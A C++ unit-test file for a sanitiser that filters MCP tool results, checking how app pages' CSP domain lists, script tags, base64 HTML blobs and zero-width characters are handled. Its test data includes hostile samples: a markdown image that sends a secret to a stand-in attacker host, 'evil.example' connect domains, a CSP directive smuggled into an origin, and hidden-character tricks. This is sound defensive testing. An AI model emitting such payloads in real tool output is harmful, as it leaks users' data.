#include "policy/sanitise/ui_resource.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

#include "config/load/load_config.h"
#include "config/ui_origin.h"
#include "policy/sanitise/sanitiser.h"
#include "tests/policy/sanitise/sanitise_json.h"

namespace bartizan {
namespace {

TEST(UiOrigin, CoversWhatItStandsFor) {
  const struct {
    std::string_view allowed, asked;
    bool want;
  } cases[] = {
      {"https://a.example", "https://a.example", true},
      {"https://a.example", "https://b.a.example", false},
      {"https://a.example", "wss://a.example", false},
      {"https://a.example", "https://a.example:8443", false},
      {"https://a.example:8443", "https://a.example:8443", true},
      {"https://a.example", "https://*.a.example", false},
      {"https://*.a.example", "https://b.a.example", true},
      {"https://*.a.example", "https://c.b.a.example", true},
      {"https://*.a.example", "https://*.b.a.example", true},
      {"https://*.a.example", "https://*.a.example", true},
      {"https://*.a.example", "https://a.example", false},
      {"https://*.a.example", "https://xa.example", false},
      {"https://*.b.a.example", "https://*.a.example", false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(std::string(c.allowed) + " and " + std::string(c.asked));
    EXPECT_EQ(covers(parse_ui_origin(c.allowed).value(), parse_ui_origin(c.asked).value()), c.want);
  }
}

TEST(UiOrigin, ReadsOneSpellingOnly) {
  for (const std::string_view text : {"",
                                      "*",
                                      "https:",
                                      "https://",
                                      "https://*",
                                      "https://*.",
                                      "https://a..b",
                                      "https://A.example",
                                      "http://a.example",
                                      "ws://a.example",
                                      "data:",
                                      "'unsafe-inline'",
                                      "a.example",
                                      "https://a.example/",
                                      "https://a.example/x",
                                      "https://a.example; script-src *",
                                      "https://a.example https://b.example",
                                      "https://u@a.example",
                                      "https://a.example:",
                                      "https://a.example:x",
                                      "https://a.example:123456",
                                      "https://*.*.a.example",
                                      "https://a.example.",
                                      "https://\u0430.example",
                                      "https://a.example\n"}) {
    EXPECT_FALSE(parse_ui_origin(text).has_value()) << text;
  }
}

Sanitisation sanitise_under(std::string_view rule, std::string_view json) {
  std::string text = "version = 1\n[audit]\nfile = \"a.jsonl\"\n";
  const LoadedConfig loaded = load_config_text(text.append(rule), "test.toml");
  EXPECT_TRUE(loaded.usable());
  const SanitisingRules rules(loaded.config);
  return sanitise_json(*rules.find({.carrier = Carrier::results, .server = "web"}), json);
}

constexpr std::string_view kDefuse =
    "[sanitise.default]\nmarkup = \"defuse\"\nui_origins = [\"https://*.ours.example\"]\n";
constexpr std::string_view kNowhere = "[sanitise.default]\nmarkup = \"defuse\"\n";
constexpr std::string_view kRefuse =
    "[sanitise.default]\nmarkup = \"refuse\"\nui_origins = [\"https://*.ours.example\"]\n";

/// A page of an app, with these lists in its policy.
std::string app(std::string_view lists, std::string_view text = "<script>x()</script>") {
  return R"({"result":{"contents":[{"uri":"ui://web/app","mimeType":"text/html;profile=mcp-app","text":")" +
         std::string(text) + R"(","_meta":{"ui":{"csp":{)" + std::string(lists) +
         R"(},"permissions":{"camera":{}}}}}]}})";
}

TEST(UiResource, LetsAppsReachWhatRulesName) {
  const struct {
    std::string_view name, rule;
    std::string json, want;
    std::string_view told;
  } cases[] = {
      {"what is named", kDefuse, app(R"("connectDomains":["https://a.ours.example"])"),
       app(R"("connectDomains":["https://a.ours.example"])"), ""},
      {"another", kDefuse,
       app(R"("connectDomains":["https://a.ours.example", "https://evil.example"])"),
       app(R"("connectDomains":["https://a.ours.example"])"), "ui-origin defuse 1"},
      {"the first, the last, and between", kDefuse,
       app(R"("frameDomains":[ "https://e.example" , "https://a.ours.example","*", "https://b.ours.example","x" ])"),
       app(R"("frameDomains":[  "https://a.ours.example", "https://b.ours.example" ])"),
       "ui-origin defuse 3"},
      {"all of them", kDefuse, app(R"("resourceDomains":["https://e.example","data:"],"x":1)"),
       app(R"("resourceDomains":[],"x":1)"), "ui-origin defuse 2"},
      {"of every list", kDefuse,
       app(R"("connectDomains":[1],"baseUriDomains":["https://e.example"],"new":[{"a":[]}])"),
       app(R"("connectDomains":[],"baseUriDomains":[],"new":[])"), "ui-origin defuse 3"},
      {"an app within an entry", kDefuse,
       app(R"("a":[{"uri":"ui://x","_meta":{"ui":{"csp":{"b":["c"]}}}}, "d"],"e":["f"])"),
       app(R"("a":[],"e":[])"), "ui-origin defuse 3"},
      {"what is hidden goes from pages, too", kDefuse, app("", "<b>a\\u200bb</b>"),
       app("", "<b>ab</b>"), "zero-width remove 1"},
      {"no app may act where none is named", kNowhere,
       app(R"("connectDomains":["https://a.example"])"),
       app(R"("connectDomains":[])", "&lt;script>x()&lt;/script>"),
       "ui-origin defuse 1, html defuse 2"},
      {"other pages may not act", kDefuse,
       R"({"result":{"contents":[{"uri":"https://a/","mimeType":"text/html","text":"<script>"}]}})",
       R"({"result":{"contents":[{"uri":"https://a/","mimeType":"text/html","text":"&lt;script>"}]}})",
       "html defuse 1"},
      {"a page that is not a ui resource may not", kDefuse,
       R"({"result":{"contents":[{"uri":"https://a/","mimeType":"text/html; profile=mcp-app","text":"<script>"}]}})",
       R"({"result":{"contents":[{"uri":"https://a/","mimeType":"text/html; profile=mcp-app","text":"&lt;script>"}]}})",
       "html defuse 1"},
      {"an embedded one", kDefuse,
       R"({"result":{"content":[{"type":"resource","resource":{"uri":"UI://a","_meta":{"ui":{"csp":{"connectDomains":["https://e.example"]}}}}}]}})",
       R"({"result":{"content":[{"type":"resource","resource":{"uri":"UI://a","_meta":{"ui":{"csp":{"connectDomains":[]}}}}}]}})",
       "ui-origin defuse 1"},
      {"a page that nobody takes for one may not: a block of text", kDefuse,
       R"({"result":{"content":[{"type":"text","uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}]}})",
       R"({"result":{"content":[{"type":"text","uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"&lt;script>"}]}})",
       "html defuse 1"},
      {"nor a resource with a type", kDefuse,
       R"({"result":{"contents":[{"type":"text","uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}]}})",
       R"({"result":{"contents":[{"type":"text","uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"&lt;script>"}]}})",
       "html defuse 1"},
      {"nor the resource of another block", kDefuse,
       R"({"result":{"content":[{"type":"text","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}}]}})",
       R"({"result":{"content":[{"type":"text","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"&lt;script>"}}]}})",
       "html defuse 1"},
      {"nor a value", kDefuse,
       R"({"result":{"structuredContent":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}]}}})",
       R"({"result":{"structuredContent":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"&lt;script>"}]}}})",
       "html defuse 1"},
      {"that of an embedded one may", kDefuse,
       R"({"result":{"content":[{"type":"resource","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}}]}})",
       R"({"result":{"content":[{"type":"resource","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}}]}})",
       ""},
      {"and that of a prompt", kDefuse,
       R"({"result":{"messages":[{"content":{"type":"resource","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}}}]}})",
       R"({"result":{"messages":[{"content":{"type":"resource","resource":{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"<script>"}}}]}})",
       ""},
      {"a page in base64 where none may act", kNowhere,
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","blob":"PHNjcmlwdD4="}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","blob":""}]}})",
       "ui-page defuse 1"},
      {"of no type, and with a policy", kNowhere,
       R"({"result":{"contents":[{"uri":"ui://x","blob":"PHNjcmlwdD4=","_meta":{"ui":{"csp":{"connectDomains":["a"]}}}}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","blob":"","_meta":{"ui":{"csp":{"connectDomains":[]}}}}]}})",
       "ui-origin defuse 1, ui-page defuse 1"},
      {"under another URI", kNowhere,
       R"({"result":{"contents":[{"uri":"https://x","mimeType":"text/html; profile=\"mcp-app\"","blob":"PHNjcmlwdD4="}]}})",
       R"({"result":{"contents":[{"uri":"https://x","mimeType":"text/html; profile=\"mcp-app\"","blob":""}]}})",
       "ui-page defuse 1"},
      {"where some may act, one that does", kDefuse,
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","blob":"PHNjcmlwdD4="}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","blob":"PHNjcmlwdD4="}]}})",
       ""},
      {"and one of a type that may not", kDefuse,
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html","blob":"PHNjcmlwdD4="}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html","blob":""}]}})",
       "ui-page defuse 1"},
      {"a picture of an app is not a page", kNowhere,
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"image/png","blob":"iVBORw0KGgo="}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","mimeType":"image/png","blob":"iVBORw0KGgo="}]}})",
       ""},
      {"another file is none either", kNowhere,
       R"({"result":{"contents":[{"uri":"file:///x","mimeType":"application/pdf","blob":"JVBERi0="}]}})",
       R"({"result":{"contents":[{"uri":"file:///x","mimeType":"application/pdf","blob":"JVBERi0="}]}})",
       ""},
      {"a list that is a text", kDefuse,
       app(R"("connectDomains":"https://evil.example","frameDomains":["https://a.ours.example"])"),
       app(R"("frameDomains":["https://a.ours.example"])"), "ui-origin defuse 1"},
      {"one that is an object, at the end", kDefuse,
       app(R"("frameDomains":[ ] , "connectDomains" : {"0":"https://evil.example"} )"),
       app(R"("frameDomains":[ ]  )"), "ui-origin defuse 1"},
      {"one that is nothing, and other members", kDefuse,
       app(R"("baseUriDomains":null,"connect-src":"*","new":{"a":[]},"strict":true)"),
       app(R"("strict":true)"), "ui-origin defuse 3"},
      {"a policy that is a text", kDefuse,
       R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{"csp":"connect-src *"}}}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{}}}]}})", "ui-origin defuse 1"},
      {"or a list", kDefuse,
       R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{"a":1,"csp":["*"]}}}]}})",
       R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{"a":1}}}]}})",
       "ui-origin defuse 1"},
      {"kept where markup is", "", app(R"("connectDomains":["https://evil.example"])"),
       app(R"("connectDomains":["https://evil.example"])"), ""},
      {"nothing but an app has such a policy", kDefuse,
       R"({"result":{"structuredContent":{"uri":"a:b","_meta":{"ui":{"csp":{"x":["y"]}}}}}})",
       R"({"result":{"structuredContent":{"uri":"a:b","_meta":{"ui":{"csp":{"x":["y"]}}}}}})", ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const Sanitisation sanitised = sanitise_under(c.rule, c.json);
    std::string told;
    for (const Sanitised& one : sanitised.found)
      told += (told.empty() ? "" : ", ") + text(one);
    EXPECT_EQ(told, c.told);
    EXPECT_EQ(sanitised.left.value_or(c.json), c.want);
    EXPECT_FALSE(sanitised.is_withheld);
  }
}

TEST(UiResource, RefusesAppsThatReachElsewhere) {
  EXPECT_TRUE(
      sanitise_under(kRefuse, app(R"("connectDomains":["https://evil.example"])")).is_withheld);
  EXPECT_FALSE(
      sanitise_under(kRefuse, app(R"("connectDomains":["https://a.ours.example"])")).is_withheld);
  EXPECT_TRUE(sanitise_under("[sanitise.default]\nmarkup = \"refuse\"\n", app("")).is_withheld);
  EXPECT_TRUE(
      sanitise_under(kRefuse, app(R"("connectDomains":"https://evil.example")")).is_withheld);
  EXPECT_TRUE(
      sanitise_under(kRefuse, app(R"("connectDomains":{"0":"https://evil.example"})")).is_withheld);
  EXPECT_TRUE(
      sanitise_under(
          kRefuse,
          R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{"csp":"connect-src *"}}}]}})")
          .is_withheld);
  constexpr std::string_view kBlob =
      R"({"result":{"contents":[{"uri":"ui://x","mimeType":"text/html;profile=mcp-app","blob":"PHNjcmlwdD4="}]}})";
  EXPECT_TRUE(sanitise_under("[sanitise.default]\nmarkup = \"refuse\"\n", kBlob).is_withheld);
  EXPECT_FALSE(sanitise_under(kRefuse, kBlob).is_withheld);
  EXPECT_TRUE(
      sanitise_under(
          kRefuse,
          R"json({"result":{"content":[{"type":"text","uri":"ui://x","mimeType":"text/html;profile=mcp-app","text":"![x](https://evil.example/?q=secret)"}]}})json")
          .is_withheld);
  // Every rule about markup must let it.
  EXPECT_TRUE(sanitise_under(std::string(kRefuse) + "[sanitise.more]\nmarkup = \"defuse\"\n",
                             app(R"("connectDomains":["https://a.ours.example"])"))
                  .is_withheld);
}

TEST(UiResource, WithholdsAppsThatNameMoreThanTheBound) {
  std::string list = R"("connectDomains":[)";
  for (std::size_t i = 2; i < kUiOriginsMax; ++i)  // The list is one, too.
    list += R"("https://a.ours.example",)";
  list += R"("https://a.ours.example")";
  const Sanitisation most = sanitise_under(kDefuse, app(list + "]"));
  EXPECT_FALSE(most.is_withheld);
  EXPECT_TRUE(most.found.empty());
  const Sanitisation more = sanitise_under(kDefuse, app(list + R"(,"https://a.ours.example"])"));
  EXPECT_TRUE(more.is_withheld);
  ASSERT_EQ(more.found.size(), 1U);
  EXPECT_EQ(text(more.found[0]), "ui-origin refuse 1");
  EXPECT_FALSE(sanitise_under("", app(list + R"(,"*"])")).is_withheld);
}

TEST(UiResource, WithholdsAppsThatAreOnesOnceNothingIsHidden) {
  const struct {
    std::string_view name, rule, json;
    bool is_withheld;
  } cases[] = {
      {"in the URI", kDefuse,
       R"({"result":{"contents":[{"uri":"u\u200bi://x","_meta":{"ui":{"csp":{"a":["*"]}}}}]}})",
       true},
      {"in the type, of a page in base64", kNowhere,
       R"({"result":{"contents":[{"uri":"a:b","mimeType":"text/html;profile=mcp\u200b-app","blob":"PHA+"}]}})",
       true},
      {"in the name of the policy", kDefuse,
       R"({"result":{"contents":[{"uri":"ui://x","_meta":{"ui":{"c\u200bsp":{"a":["*"]}}}}]}})",
       true},
      {"one that reaches what it may", kDefuse,
       R"({"result":{"contents":[{"uri":"u\u200bi://x","_meta":{"ui":{"csp":{"a":["https://a.ours.example"]}}}}]}})",
       false},
      {"a picture", kNowhere,
       R"({"result":{"contents":[{"uri":"u\u200bi://x","mimeType":"image/png","blob":"iVBORw0KGgo="}]}})",
       false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const Sanitisation sanitised = sanitise_under(c.rule, c.json);
    EXPECT_EQ(sanitised.is_withheld, c.is_withheld);
    EXPECT_FALSE(sanitised.found.empty());
  }
}

}  // namespace
}  // namespace bartizan
